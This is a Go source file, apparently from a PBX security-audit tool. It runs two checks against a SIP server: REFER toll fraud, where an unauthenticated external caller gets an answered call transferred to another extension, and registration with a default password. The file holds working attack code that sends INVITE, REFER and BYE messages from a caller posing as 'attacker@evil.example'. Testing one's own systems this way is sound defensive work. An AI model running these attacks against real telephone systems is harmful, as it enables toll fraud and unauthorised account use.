package main

import (
	"fmt"
	"net/netip"
	"strings"
	"sync"
	"time"
)

// referAttack is attacks 1 and 5: REFER toll fraud from an unauthenticated caller on the
// external profile, and registering with the default password.
func referAttack(h netip.Addr) (string, string) {
	in := netip.AddrPortFrom(h, uint16(*internal))
	ex := netip.AddrPortFrom(h, uint16(*external))
	phone, err := newUA("127.0.0.7", in)
	if err != nil {
		return line("1", "refer-toll-fraud", "-", "cannot bind 127.0.0.7: "+err.Error(), false), ""
	}
	defer phone.conn.Close()
	contact := "<sip:" + *user + "@" + phone.local().String() + ">"
	code := phone.register(*user, *pass, contact, 120)
	l5 := info("5", "default-password", fmt.Sprintf("REGISTER %s password %s from 127.0.0.7 (loopback)", *user, *pass),
		fmt.Sprintf("%d %s", code, map[bool]string{true: "(registered: allowed from loopback by design)", false: "(refused)"}[code == 200]))
	if code != 200 {
		return line("1", "refer-toll-fraud", "-", fmt.Sprintf("setup failed: REGISTER %s got %d, no phone to call", *user, code), false), l5
	}
	defer phone.register(*user, *pass, contact, 0)

	fp := startFakePhone(phone, contact)
	defer fp.stop()

	caller, err := newUA("127.0.0.8", ex)
	if err != nil {
		return line("1", "refer-toll-fraud", "-", "cannot bind 127.0.0.8", false), l5
	}
	defer caller.conn.Close()
	callID := "refer-" + rnd()
	ruri := "sip:" + *user + "@" + ex.String()
	from := "<sip:attacker@evil.example>;tag=" + rnd()
	caller.send(caller.request("INVITE", ruri, from, "<"+ruri+">", callID, 1, "", sdp("127.0.0.8")))
	m := caller.final(callID, 1, 8*time.Second)
	if m == nil || m.code() != 200 {
		c := 0
		if m != nil {
			c = m.code()
		}
		return info("1", "refer-toll-fraud", "INVITE "+*user+" on external (unauthenticated)", fmt.Sprintf("INVITE got %d, no dialog to REFER in", c)), l5
	}
	to := m.get("to")
	target := ruri
	if ct := m.get("contact"); ct != "" {
		if i, j := strings.Index(ct, "<"), strings.Index(ct, ">"); i >= 0 && j > i {
			target = ct[i+1 : j]
		}
	}
	ack := caller.request("ACK", target, from, to, callID, 1, "", "")
	caller.send(ack)
	referTo := "sip:9196@" + h.String()
	caller.send(caller.request("REFER", target, from, to, callID, 2, "Refer-To: <"+referTo+">\r\nReferred-By: <sip:attacker@evil.example>\r\n", ""))
	r := caller.final(callID, 2, 5*time.Second)
	res := "no answer"
	refused := true
	if r != nil {
		res = r.first[len("SIP/2.0 "):]
		refused = r.code() >= 300
	}
	// Wait for the transfer's NOTIFY (sipfrag) for a few hundred ms, then hang up.
	if !refused {
		end := time.Now().Add(1500 * time.Millisecond)
		for time.Now().Before(end) {
			n := caller.read(time.Until(end))
			if n == nil {
				break
			}
			if strings.HasPrefix(n.first, "NOTIFY") {
				res += ", NOTIFY sipfrag " + strings.TrimSpace(strings.SplitN(n.body, "\r\n", 2)[0])
				caller.answer(n, 200, "")
				break
			}
			if n.code() == 0 {
				caller.answer(n, 200, "")
			}
		}
	}
	caller.send(caller.request("BYE", target, from, to, callID, 3, "", ""))
	caller.final(callID, 3, time.Second)
	return line("1", "refer-toll-fraud", "INVITE "+*user+" on external (unauthenticated, answered), then REFER Refer-To "+referTo, "REFER "+res, refused), l5
}

// fakePhone answers every INVITE, acknowledges everything else, and when stopped hangs up the
// calls it answered (a transferred leg would otherwise stay up).
type fakePhone struct {
	ua      *ua
	contact string
	done    chan struct{}
	wg      sync.WaitGroup
	mu      sync.Mutex
	byes    []string // BYE requests for the dialogs it answered
}

func startFakePhone(u *ua, contact string) *fakePhone {
	f := &fakePhone{ua: u, contact: contact, done: make(chan struct{})}
	f.wg.Add(1)
	go f.run()
	return f
}

func (f *fakePhone) run() {
	defer f.wg.Done()
	phone, contact := f.ua, f.contact
	for {
		select {
		case <-f.done:
			return
		default:
		}
		m := phone.read(200 * time.Millisecond)
		if m == nil || m.code() != 0 {
			continue
		}
		switch strings.Fields(m.first)[0] {
		case "INVITE":
			body := sdp("127.0.0.7")
			tag := rnd()
			m.hdr["to"] = []string{m.get("to") + ";tag=" + tag}
			phone.answer(m, 200, fmt.Sprintf("Contact: %s\r\nContent-Type: application/sdp\r\nContent-Length: %d\r\n\r\n%s", contact, len(body), body))
			target := "sip:" + phone.dst.String()
			if ct := m.get("contact"); strings.Contains(ct, "<") {
				target = ct[strings.Index(ct, "<")+1 : strings.Index(ct, ">")]
			}
			f.mu.Lock()
			f.byes = append(f.byes, fmt.Sprintf("BYE %s SIP/2.0\r\nVia: SIP/2.0/UDP %s;branch=z9hG4bK%s;rport\r\nMax-Forwards: 70\r\n"+
				"From: %s\r\nTo: %s\r\nCall-ID: %s\r\nCSeq: 1 BYE\r\nContent-Length: 0\r\n\r\n",
				target, phone.local(), rnd(), m.get("to"), m.get("from"), m.get("call-id")))
			f.mu.Unlock()
		case "ACK":
		default:
			phone.answer(m, 200, "")
		}
	}
}

// stop ends run, then hangs up what it answered.
func (f *fakePhone) stop() {
	close(f.done)
	f.wg.Wait()
	for _, bye := range f.byes {
		f.ua.send(bye)
		f.ua.read(500 * time.Millisecond)
	}
}
